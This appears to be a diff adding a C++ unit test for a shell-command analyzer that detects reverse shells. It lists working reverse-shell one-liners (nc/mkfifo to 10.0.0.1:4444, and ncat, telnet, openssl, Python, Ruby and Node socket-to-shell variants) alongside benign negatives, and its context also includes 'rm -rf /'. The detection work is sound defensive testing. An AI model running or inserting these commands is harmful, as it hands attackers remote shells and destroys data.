@@ -55,4 +55,22 @@ TEST(RemoteCommandsTest, SocatFilesAreWrittenAndExecRuns) {
   EXPECT_TRUE(HasCommandLine(g, "rm -rf /")) << Dump(g);
 }
 }  // namespace
+// A shell that reads its commands from a network tool in the same pipeline, or code that opens
+// a socket and runs a shell or what it receives: a reverse shell, whatever the tools.
+TEST(RemoteCommandsTest, ShellsFedByTheNetworkAreReverseShells) {
+  for (std::string_view cmd :
+       {"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
+        "ncat h 1 | bash", "telnet h 1 | /bin/sh | telnet h 2",
+        "openssl s_client -quiet -connect h:1 | zsh",
+        "python3 -c 'import socket,pty,os;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
+        "ruby -rsocket -e 'c=TCPSocket.new(\"h\",1);while(l=c.gets);IO.popen(l){|io|c.print io.read};end'",
+        "node -e 'const n=require(\"net\"),p=require(\"child_process\");n.connect(1,\"h\",function(){this.on(\"data\",d=>p.exec(d.toString()))})'"}) {
+    EXPECT_TRUE(HasSignal(Analyze(cmd), kSignalReverseShell)) << cmd << ": " << Dump(Analyze(cmd));
+  }
+  for (std::string_view cmd : {"echo hi | nc localhost 8080", "nc -lvnp 4444", "sh -c 'echo hi' | nc h 1",
+                               "python3 -c 'import socket;s=socket.create_connection((\"h\",80));print(s.recv(9))'",
+                               "curl -s localhost:8080/health | jq ."}) {
+    EXPECT_FALSE(HasSignal(Analyze(cmd), kSignalReverseShell)) << cmd << ": " << Dump(Analyze(cmd));
+  }
+}
 }  // namespace warden::shell
